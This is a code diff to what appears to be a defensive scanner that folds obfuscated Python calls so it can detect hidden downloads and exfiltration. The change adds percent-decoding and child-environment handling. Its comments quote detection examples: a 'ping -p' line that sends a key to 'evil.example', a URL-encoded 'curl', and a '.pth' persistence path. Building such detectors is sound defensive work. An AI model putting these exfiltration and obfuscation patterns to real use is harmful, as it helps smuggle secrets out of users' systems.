@@ -11,8 +11,11 @@ from typing import TYPE_CHECKING
 from airlock.imports.packages import (
     across,
     astbuilt,
+    childenv,
     classdata,
+    envurl,
     keystream,
+    percent,
     piped,
     pipruns,
     plainattr,
@@ -239,6 +242,8 @@ def call(self: Interpreter, node: ast.Call, env: dict[str, Val], when: When) -> 
     if ref == "str.format_map" and node.args and isinstance(node.args[0], ast.Dict):
         c = [self.literal_dict(node.args[0], env)]  # ``'{a} x'.format_map({'a': 'curl'})``
     folded = fold_call(ref, callee.const, c, kwargs)
+    if folded is None and ref in percent.UNQUOTES:
+        folded = percent.unquoted(ref, c)  # ``unquote('%63%75%72%6c')`` (ADR 0131)
     if folded is None and ref == "str.format" and isinstance(callee.const, str):
         persistent = persistent_shape(callee.const)  # ``'{}/zz.pth'.format(prefix)``
         if persistent:
@@ -251,6 +256,8 @@ def call(self: Interpreter, node: ast.Call, env: dict[str, Val], when: When) -> 
     if folded is not None and small(folded):
         extra = frozenset({DECODED}) if ref in DECODERS or ref in DECOMPRESSORS else frozenset()
         extra |= frozenset({DECODED}) if ref in CODECS_CALLS else frozenset()
+        extra |= frozenset({DECODED}) if percent.hides(ref, c) else frozenset()
+        extra |= frozenset({childenv.OF_CODE}) if extra else frozenset()  # ADR 0131
         # Text spelt as numbers or one character at a time is recovered as decoded text
         # is, but the value stays unmarked: a magic number written out is no download.
         spelling = ref in SPELLINGS and spelt(ref, callee.const, c)
@@ -344,16 +351,19 @@ def command_text(  # noqa: PLR0917 -- bound as a method: self is not passed
     args: list[Val],
     kwargs: dict[str | None, Val],
     env: dict[str, Val],
+    ref: str,
+    when: When,
 ) -> tuple[str, frozenset[str]]:
-    """A command's text and labels, as the scorer reads them: the environment handed as
-    the child's ``env=`` is not data on its line; a command carrying data whose text did
-    not fold keeps its literal parts when they name a tool that sends to another host
-    (``'ping -p ' + key + ' evil.example'``, ADR 0079)."""
-    given = [*args, *(v for k, v in kwargs.items() if k != "env")]
+    """A command's text and labels, as the scorer reads them: the environment handed to
+    the child (``env=``, ``os.execve``'s last argument) is not data on its line
+    (:mod:`childenv`, ADR 0131); a command carrying data whose text did not fold keeps its
+    literal parts when they name a tool that sends to another host (``'ping -p ' + key +
+    ' evil.example'``, ADR 0079)."""
+    given, child_env = childenv.given(ref, args, kwargs)
     labels = frozenset().union(*(v.labels for v in given))
-    if "env" in kwargs:
-        labels |= kwargs["env"].labels - {ENV}
-    if text.strip() or not labels & {ENV, SECRET, HOSTINFO}:
+    if child_env is not None:
+        labels |= childenv.carried(child_env, text, when)
+    if text.strip() or not labels & {ENV, SECRET, HOSTINFO, envurl.LED}:
         return text, labels
     built = (ast.BinOp, ast.JoinedStr, ast.List, ast.Tuple)
     parts = " ".join(self.partial(a, env) for a in node.args if isinstance(a, built))[:4096]
